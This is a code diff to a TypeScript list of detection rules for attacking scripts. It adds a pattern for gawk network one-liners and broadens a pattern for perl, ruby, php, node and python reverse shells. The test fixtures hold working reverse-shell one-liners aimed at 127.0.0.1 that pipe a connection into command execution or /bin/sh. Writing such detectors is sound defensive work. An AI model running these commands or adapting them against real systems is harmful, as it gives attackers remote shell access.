@@ -5,9 +5,16 @@ import type { Row } from './script-row.ts';
 export const SPELT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
+    // The files of awk that are connections: what comes over one is run.
+    pattern: /\b[gmn]?awk\b[^\n]*\/inet[46]?\/(?:tcp|udp)\//,
+    fires: [`gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/9";while((s|&getline c)>0)while((c|&getline)>0)print|&s}'`],
+    quiet: [`awk '/inet / {print $2}'`],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
     // A connection and a shell in a program of one line.
     pattern:
-      /\b(?:perl|ruby|php|lua|node|python[\d.]*)\b(?=[^\n]*\s-\w{0,3}[ecr]\b)(?=[^\n]*(?:IO::Socket|TCPSocket|fsockopen|socket\.socket|socket\.tcp|net\.(?:connect|Socket)|use Socket))[^\n]*(?:fdopen|dup2|\/bin\/(?:ba|z|da)?sh\b|\bexec\b|\bsystem\b|\bproc_open\b|\bspawn\b)/,
+      /\b(?:perl|ruby|php|lua|node|python[\d.]*)\b(?=[^\n]*\s-\w{0,3}[ecr]\b)(?=[^\n]*(?:IO::Socket|TCPSocket|fsockopen|socket\.socket|socket\.tcp|net\.(?:connect|Socket)|require\(\W{0,2}net\W{0,2}\)|use Socket))[^\n]*(?:fdopen|dup2|\/bin\/(?:ba|z|da)?sh\b|\bexec\b|\bsystem\b|\bproc_open\b|\bspawn\b)/,
     fires: [
       `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:9");STDIN->fdopen($c,r);system$_ while<>'`,
       `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("127.0.0.1",9);exec "/bin/sh"'`,
